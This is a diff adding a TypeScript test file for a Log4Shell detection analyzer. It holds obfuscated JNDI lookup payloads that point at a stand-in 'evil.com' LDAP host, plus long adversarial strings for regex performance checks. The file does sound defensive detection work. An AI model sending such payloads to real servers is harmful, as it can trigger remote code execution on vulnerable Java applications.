@@ -1,0 +1,114 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: `${...}` here is attack text, not a forgotten template literal.
+import { readdirSync, readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import type { InspectedValue, Variant } from '../../inspectable.js';
+import { log4shellCases } from './cases.js';
+import { createLog4shellAnalyzer } from './create-log4shell-analyzer.js';
+
+const analyzer = createLog4shellAnalyzer();
+
+function urlDecoded(input: string): string {
+  let value = input;
+  for (let round = 0; round < 3; round++) {
+    let next: string;
+    try {
+      next = decodeURIComponent(value);
+    } catch {
+      break;
+    }
+    if (next === value) break;
+    value = next;
+  }
+  return value;
+}
+
+function inspected(
+  input: string,
+  kind: InspectedValue['item']['kind'] = 'query-value',
+  location = 'query.x',
+): InspectedValue {
+  const variants: Variant[] = [{ value: input, transforms: [] }];
+  const decoded = urlDecoded(input);
+  if (decoded !== input) variants.push({ value: decoded, transforms: ['url-decode'] });
+  return { item: { location, kind, value: input }, variants };
+}
+
+describe('log4shell analyzer', () => {
+  for (const c of log4shellCases) {
+    it(`${c.expect ?? 'passes'}: ${JSON.stringify(c.input).slice(0, 80)}`, () => {
+      const location = c.location ?? 'query.x';
+      const findings = analyzer.analyzeValue!(inspected(c.input, c.kind, location));
+      if (c.expect === null) {
+        expect(findings).toEqual([]);
+        return;
+      }
+      expect(findings.map((f) => f.rule)).toContain(c.expect);
+      for (const f of findings) {
+        expect(f.analyzer).toBe('log4shell');
+        expect(f.location).toBe(location);
+        expect(f.confidence).toBeGreaterThan(0);
+        expect(f.confidence).toBeLessThanOrEqual(1);
+        expect(f.evidence.length).toBeLessThanOrEqual(64);
+        expect(f.evidence).not.toMatch(/[\u0000-\u001f]/);
+      }
+    });
+  }
+
+  it('refuses unknown and out-of-range options', () => {
+    expect(() => createLog4shellAnalyzer({ depth: 3 })).toThrow(/unknown option/);
+    expect(() => createLog4shellAnalyzer({ maxLength: 10 })).toThrow(/maxLength/);
+    expect(createLog4shellAnalyzer({ maxLength: 100 }).id).toBe('log4shell');
+  });
+
+  it('scores a remote JNDI lookup as unmistakable', () => {
+    const [f] = analyzer.analyzeValue!(inspected('${${::-j}ndi:ldap://evil.com/a}'));
+    expect(f?.confidence).toBe(1);
+    expect(f?.evidence).toBe('${jndi:ldap://evil.com/a}');
+  });
+
+  it('names its own unescaping among the transforms', () => {
+    const [f] = analyzer.analyzeValue!(inspected('$&lbrace;jndi:ldap://evil.com/a}'));
+    expect(f?.transforms).toEqual(['log4shell-unescape']);
+  });
+});
+
+describe('log4shell regexes and scanners are linear', () => {
+  const adversarial = [
+    `${'a'.repeat(50_000)}!`,
+    '${'.repeat(25_000),
+    `${'${x:-'.repeat(10_000)}}`,
+    '%25'.repeat(20_000),
+    '&#'.repeat(25_000),
+    '&#0'.repeat(20_000),
+    '\\u0'.repeat(20_000),
+    '}'.repeat(50_000),
+    ':-'.repeat(25_000),
+  ];
+  const folder = new URL('.', import.meta.url);
+  const sources = readdirSync(folder).filter(
+    (f) => f.endsWith('.ts') && !f.endsWith('.test.ts') && f !== 'cases.ts',
+  );
+  const literals = sources.flatMap((f) =>
+    [...readFileSync(new URL(f, folder), 'utf8').matchAll(/=\s*\/((?:\\.|[^/\\\n])+)\/([gimsuy]*);/g)].map(
+      (m) => new RegExp(m[1]!, m[2]),
+    ),
+  );
+
+  for (const input of adversarial) {
+    it(`stays fast on ${JSON.stringify(input.slice(0, 12))}…`, () => {
+      const unbounded = createLog4shellAnalyzer({ maxLength: 1 << 20 });
+      // Best of three, so a busy machine or a cold JIT does not fail a linear scan.
+      let best = Number.POSITIVE_INFINITY;
+      for (let run = 0; run < 3; run++) {
+        const start = performance.now();
+        for (const re of literals) re.test(input);
+        for (const kind of ['query-value', 'body-text'] as const) {
+          analyzer.analyzeValue!(inspected(input, kind));
+          unbounded.analyzeValue!(inspected(input, kind));
+        }
+        best = Math.min(best, performance.now() - start);
+      }
+      expect(best).toBeLessThan(50);
+    });
+  }
+});
